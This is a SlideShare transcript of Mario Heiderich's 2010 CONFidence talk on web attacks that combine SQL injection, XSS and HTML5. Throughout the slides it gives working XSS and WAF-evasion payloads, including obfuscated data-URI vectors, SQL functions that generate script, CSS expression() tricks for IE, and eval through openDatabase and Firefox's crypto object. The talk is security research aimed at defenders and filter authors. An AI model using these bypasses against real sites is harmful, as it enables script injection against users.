Successfully reported this slideshow.
We use your LinkedIn profile and activity data to personalize ads and to show you more relevant ads. You can change your ad preferences anytime.

The Future of Web Attacks - CONFidence 2010

Related Books

Free with a 30 day trial from Scribd

See all

The Future of Web Attacks - CONFidence 20101. 1. The Presence and Future of Web Attacks Multi-Layer Attacks, XSSQLI+ and HTML5 A presentation by Mario Heiderich for CONFidence 2010, Krakow
  2. 2. WARNING This talk will be technical, chaotic and|or hurt
  3. 3. Intro Mario Heiderich @0x6D6172696F Based in Cologne CTO for Business IN Inc - working on Independent Security Researcher PHPIDS and something we will see later on
  4. 4. Why this talk? What happened to web application security? Always the same... so 2002 right? XSS, SQL Injections, Auth and path traversal We have amazing things now! NoScript, the IE8 and Chromium XSS filter and CSP Users must be safer than ever! But didn't the web change? Wasn't there HTML5 and next generation browsers?
  5. 5. Oh wait - developers! Web app development frameworks help Building applications faster Pre-implemented SQLI and XSS protection Secure forms with complex CSRF tokens Webroot contains webroot only files Weaknesses regarding JavaScript generation Client side logic mostly built manually Different templates for browsers, mobile devices, feedsOffline mode, client side validation, DOM access
  6. 6. User Agents on steroids Chrome 5 and Opera 10.5 ship client side databases IE9 is coming soon with more standards conformity Integrated security mechanisms The death of eval() A fat client dynasty is coming up Who needs a server anyway if clients do all the work And store their data in „the cloud“ Bye bye SQL - say hello to NoSQL?
  7. 7. Web applications are changing And so are the attacks against them If the attack happens on and against the client Of what use will aserver side IDS / WAF solution be? Today we can have a little preview for that scenario One question might be... How will protective mechanisms react on multi-layer attacks?
  8. 8. Multi-layer what? What about utilizing the DBMS to generate an XSS attack NoScript detects most XSS attacks without problems Circumvention has become very difficult Thanks to Giorgio Maone and the NoScript user base. And me :P Let's have a look at my last one (disclosed via SSD - fixed in Aren't dataURIs the sweetest thing? <a href="d&#097t&#x0061: . &#x2c % 3 c s cri pt % 3 e alu0065rt(1)%3c /s &#x43 RI &#x009 P t>"
  9. 9. Difficult! We can probably agree that it's not as easy anymore Same thing for the IE8 XSS filter Or implementations of toStaticHTML() Most quirky JavaScript encoding techniques are documented Not too many user agent specific surprises anymore Help from another layer would be appreciated Let's have a look at a "classic webapp" example
  10. 10. Imagine the DBMS helps Hypothesis A verbose SQL Injection vulnerability is always at least an "unfilterable" XSS Verification Just make use of the obfuscation possibilities the DBMS provides SELECT 0x3C7363726970743E616C6572742831293C2F7363726970743E SELECT UpdateXML(concat( 0x3c,'script',0x3e,'alert(1)',0x3c,'/ script',0x3e), '/x', 0); SELECT/**/'<sc'"rip"'t>al'"er"'t(1)'"</sc"'ript>'
  11. 11. MySQL and PostgreSQL MySQL only ships two basic XML functions UpdateXML() and ExtractValue() PostgreSQL has far more advanced XML support SELECT xmlelement(name img,xmlattributes(1 as src,'alert(1)'as onerror)) SELECT xmlforest(loWER('x41'||'lert(1)') AS script); And my favorite SELECT xpath('//text()', '<x:x><imgx20src=x onerror=alert(1);//</x:x>', ARRAY[ARRAY['x', '']]);
  12. 12. SQL Injection and XSS There are more intersections for XSS and SQLI „Remember“ the clientside databases? And the short lived Google Gears? HTML5 and W3C Offline Web Applications 1.0 give us window.openDatabase() SQL execution on the user agent Currently supported by Chrome and Opera Usually implemented using SQLite
  13. 13. Code please <script type="text/javascript"> openDatabase('',1,1,0).transaction(function($){ $.executeSql( 'SELECT "x61lert(1u0029"', [], function($,results){ for(i in results.rows.item(0)) eval(results.rows.item(0)[i]) }) }) </script> Selects the string "alert(1)" And evaluates the result
  14. 14. Short Roundup The browsers speak SQL now The server side DBMS can generate HTML and JavaScript We already outsmarted NoScript and IE8 XSS filter Not really a fair game though Multi-layer attacks mean multi-layer obfuscation In future webapps the client side DBMS will generate our XSS payload But today we still have to trick the server side protection Bypass IDS and WAF with a trigger
  15. 15. Attackers like obfuscation And why wouldn't they - right? Obfuscation usually means concatenation And a bit of encoding spice But how to concatenate in SQL so no one will notice the attack? Which operator to choose? Everybody knows chr(), char() and double-pipe...
  16. 16. In MySQL - none at all MySQL doesn't need parenthesis to concatenate And doesn't know the double-pipe operator Sorry mod_security... But luckily MySQL accepts concatenation via whitespace SELECT "a" "d" "m" "i" "n" SELECT'a'"d"'m'"i"'n' Or why not use an integer overflow in char() SELECT concat( char( x'70617373', b'1110111011011110111001001100100'))
  17. 17. So again... We can bypass the server side protection mechanisms As well as client side tools No parenthesis or special operators needed on MySQL We can also trick MySQL and the IDS with MySQL specific code SELECT--/*!500005,*//*!400004,*//*!300003,*/
  18. 18. Back to the user agent But what if no server side DBMS is involved in the attack What if the client side database is being targeted We still need to execute some JavaScript bypassing either server side IDS and the client side security mechanisms Let's have a look at some freaky examples
  19. 19. Remember dataURIs? The whole requested resource embedded in the URI DataURIs work smoothly on Firefox, Opera and Chrome But IE8 and 9 have problems Some say the minimal dataURI support was just for ACID 2
  20. 20. People say... not possible to execute JavaScript via dataURI on IE Do we agree on that? No we don't! <style> @import "data:,*%7bx:expression(write(2))%7D"; </style> <link rel="Stylesheet" href="data:,* %7bx:expression(write(4))%7d">
  21. 21. And there's more CSS expression() is believed to be dead on IE8 But it isn't It's only disabled in standard mode In case a recognized DOCTYPE is present The new HTML5 doctype isn't So this works: <!docytpe html> <div style="background:url('abc', x!=x=expression(write(2));)">
  22. 22. And even worse... HTML5 forces user agents to bemore tolerant again New tags, new attributes, new parsing rules And tons of new features like the mentioned openDatabase() Some nifty examples from the future <video/poster=javascript:alert(1)// Opera 10.5+ <style>@import javascript:alert(1); // IE9 (!)
  23. 23. Closing tags + free 0day Another weird artifact has been reported for IE6 some years ago It's attributes in closing HTML tags Believed to be dead... but This still works on all IEs <td>phoobar</td style=expression(write(1))> Andwhat about this? <style>*{background:url(foo!!- =expression(write(1));</style>
  24. 24. Opera CSS XSS Since Mozilla fixed the dataURI and cross domain problems with -moz-binding IE was believed to be unique Unique regarding JavaScript execution via CSS But Opera ships an artifact too <style>*{-o-link:'javascript:alert(1)';-o-link- source:current}</style>
  25. 25. Now we have... Server side SQL helping to circumvent client side XSS filters Effective SQL obfuscation circumventing WAF and IDS "Obfuscation-mash ups" using several layers Quirky HTML triggers to execute the JS Sounds like only one player is missing Even more freaky markup obfuscation! Awesome! Now breathe..
  26. 26. Meet Harold the markup ghoul This is Harold: 1;--<?f><l ₩ :!!:x /style=`b\65h0061vIor/ĸ :url(#def&#x61ult#time2)ö/';'` ₩ /onb egin= &#x5bµ=u0061le&#114t&#40&#x31)&# x5d&#x2f/&#xyŧ> It's completely legitimate to call me a mad man now and say this is never gonna work So - demo time:
  27. 27. What... what is this? It's a piece of markup – obfuscated to the max Working on IE only – but all versions from 5 to 9 Based on the HTML+TIME API (What? Stuff like that still exists?) Does your WAF know what to do with it? Overall about 12-13 obfuscation steps Buy me a beer later on and I will give you a full explanation :D
  28. 28. Round Up We are not living in web app = CRUD application times anymore Modern webapps accept input from many channels User input via HTTP is just one of them API calls, RPC, DOM, Drag&Drop, file meta data & EXIF... WAF/IDS as well as pentesters need to look into HTML5 New applicationstructures and design pattern must be understood Client and server versus rich-client and cloud SQLite and NVP versus RDBMS Massive client diversity via mobile devices
  29. 29. Expectations and tasks Fewer basic and reflective XSS More out-of-band attacks and heavy obfuscation We didn't even cover Flash and PDF More JSON and E4X hijacking SVG based attacks and rogue multimedia objects Don't ignore the user agent Understandclient side obfuscation and multi-layer obfuscation Don't trust filters. Ever. We broke HTMLPurifier and most other markup filters some days ago with one single vector And don't trust the cloud – it's a business model and not your buddy :D
  30. 30. So what can I do? Help with research and participation! Communication and disclosure For good! But how?
  31. 31. The Ultimate Cheatsheet
  32. 32. Ping us! Add new vectors Get a channel to speak to vendors Most are more responsive than one might think Use it for.. Your own scanner software Your own local version Whatever you want! Open API in JSON Multiple languages Flexible payload You need more? Tell us!
  33. 33. Do what now? Go here!
  34. 34. Questions & Comments Thanks very much for listening! Wait - no goodies this time? Meh!!1
  35. 35. Yaaaaaaay! Goodies! Did you know Firefox has a DOMobject called crypto? PKI meets JavaScript And another eval() for free! crypto.generateCRMFRequest( 'CN=0',0,0,null,'alert(1)',384,null,'rsa-dual-use' );
  36. 36. Good bye!

    Be the first to comment

    Loginto see the comments

  • TakeshiWatanabe2

    Sep. 6, 2012
  • johannes-weber

    Mar. 5, 2015
  • thorstenkoernerJul. 3, 2016
  • jeffhuangus

    Jul. 4, 2016
  • trietptm

    Nov. 25,2019


Total views


On Slideshare


From embeds


Number of embeds